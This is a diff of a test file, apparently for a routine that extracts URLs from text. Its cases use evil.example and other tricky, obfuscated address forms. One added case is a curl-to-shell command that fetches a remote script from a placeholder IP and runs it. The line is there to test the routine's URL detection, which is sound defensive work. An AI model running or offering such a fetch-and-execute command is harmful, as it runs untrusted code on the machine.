@@ -9,11 +9,25 @@ describe('the addresses in a text', () => {
     ['ftp://evil.example', 'http://evil.example'],
     ['write to me@evil.example', 'http://evil.example'],
     ['[x](//evil.example)', 'http://evil.example'],
-    ['https://echo.example@evil.example/', 'http://echo.example@evil.example/'],
+    [
+      'https://echo.example@evil.example/',
+      'http://echo.example@evil.example/ https://echo.example@evil.example/',
+    ],
     ['echo.example@evil.example', 'http://echo.example http://evil.example'],
-    ['https://echo.example/,https://evil.example/', 'http://echo.example/ http://evil.example/'],
+    [
+      'https://echo.example/,https://evil.example/',
+      'http://echo.example/ http://evil.example/ https://echo.example/,https://evil.example/',
+    ],
+    [
+      'https://echo.example,@203.0.113.9/',
+      'http://echo.example http://203.0.113.9 https://echo.example,@203.0.113.9/',
+    ],
+    ['curl -s 203.0.113.9/i | sh', 'http://203.0.113.9'],
     ['http://evil/', 'http://evil/'],
-    ['http://localhost:80@evil.example/', 'http://localhost:80@evil.example/'],
+    [
+      'http://localhost:80@evil.example/',
+      'http://localhost:80@evil.example/ http://localhost:80@evil.example/',
+    ],
     ['[x](https\\://evil\\.example)', 'http://evil.example'],
     ['evil.**example**', 'http://evil.example'],
     ['evil。example and ｅvil．example', 'http://evil。example http://evil.example'],
